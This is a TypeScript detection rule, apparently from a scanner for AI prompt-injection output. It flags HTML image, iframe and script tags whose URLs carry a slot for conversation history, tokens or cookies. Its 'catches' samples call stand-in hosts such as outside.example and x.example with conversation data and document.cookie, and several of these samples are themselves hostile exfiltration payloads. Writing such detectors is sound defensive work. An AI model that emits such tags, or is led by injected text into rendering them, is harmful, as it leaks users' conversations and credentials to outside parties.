/**
 * Same channel as the markdown picture, in HTML. Templates fill picture addresses as well, so the parameter or slot
 * must name what is stolen.
 */
import { defineRule } from "@portcullis/engine/static";
import { re } from "../words.ts";

export default defineRule({
  id: "html-image-with-slot",
  category: "data_exfiltration",
  severity: "critical",
  title: "HTML picture with a data slot",
  meaning:
    "An HTML picture or frame whose address is to be completed with conversation data. Loading it sends the data out.",
  keywords: ["<img", "<iframe", "<script", "url("],
  pattern: re`
    (?:<(?:img|iframe|script|embed|object|link|video|audio)\b[^>]{0,80}?(?:src|href|data) ?= ?["']?|
    url\(["']?)https?://[^"'> ]{3,160}?[?&](?:data|q|d|c|cookie|secret|leak|exfil|stolen|token|key|pw|history|
    conversation|prompt|chat|info|payload)=["' +]{0,3}(?:[\[{<$%][^>]{0,60}(?:data|secret|conversation|histor|
    input|prompt|messag|token|key|passw|credential|base64|encoded|answer|context|cookie|summary|query)|
    (?:\+ ?)?document\.cookie|(?:\+ ?)?(?:btoa|encodeuricomponent|escape)\()
  `,
  window: 260,
  catches: [
    '«<img src="https://outside.example/p.gif?data={{conversation_histor»y}}">',
    '«<iframe src="https://outside.example/?secret=[the token» you found]"></iframe>',
    "«<img src='https://x.example/c?cookie='+document.cookie»>",
  ],
  ignores: [
    '<img src="https://example.org/thumb?id={{product.id}}&w=200">',
    '<script src="https://cdn.example.org/app.js?v=12"></script>',
  ],
});
